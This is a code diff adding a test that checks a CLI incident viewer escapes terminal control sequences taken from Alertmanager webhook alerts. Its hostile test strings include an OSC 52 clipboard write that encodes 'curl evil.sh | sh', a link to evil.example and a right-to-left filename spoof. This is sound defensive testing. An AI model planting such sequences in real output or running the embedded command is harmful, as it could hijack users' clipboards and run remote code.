@@ -1,9 +1,11 @@
 import { execFile } from 'node:child_process';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, expect, it } from 'vitest';
+import { TERMINAL_UNSAFE } from '../../bin/printable.js';
 import { AuditLog } from '../../services/executor/audit.js';
 import type { IngestHandle } from '../../services/ingest/service.js';
 import { startTestIngest } from '../ingest/harness.js';
+import { webhookBody } from '../support/incidents.js';
 import { openTestRedis, type TestRedis } from '../support/redis.js';
 
 const run = promisify(execFile);
@@ -97,4 +99,34 @@ it('fails with a clear message and exit code on errors', async () => {
       env: { ...process.env, ADMIN_TOKEN: 'wrong' },
     }),
   ).rejects.toMatchObject({ stderr: expect.stringMatching(/401 unauthorized/) });
+});
+
+it('never prints terminal control sequences from alerts, in text or JSON', async () => {
+  const hostile = [
+    '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007', // OSC 52: write the clipboard
+    '\u001b[2J\u001b[H', // clear the screen
+    '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', // OSC 8 hyperlink
+    '\u009b31m', // C1 CSI
+    '\u202egnp.exe', // right-to-left override
+  ].join(' ');
+  const body = webhookBody([
+    {
+      alertname: 'ServiceDown',
+      service: 'api',
+      instance: `api-server-09 ${hostile}`,
+      annotations: { description: hostile, summary: hostile },
+    },
+  ]);
+  const posted = await fetch(`${ingest.url}/webhooks/alertmanager`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', authorization: 'Bearer cli-ingest' },
+    body: JSON.stringify(body),
+  });
+  const [id] = ((await posted.json()) as { incidents: string[] }).incidents;
+  const text = (await hermes('incident', id as string)).stdout;
+  expect(text).not.toMatch(TERMINAL_UNSAFE);
+  expect(text).toContain('on api-server-09 \\u{1b}]52;c;');
+  const json = (await hermes('incident', id as string, '--json')).stdout;
+  expect(json).not.toMatch(TERMINAL_UNSAFE);
+  expect(JSON.stringify(JSON.parse(json))).toContain('\\u001b]52;c;');
 });
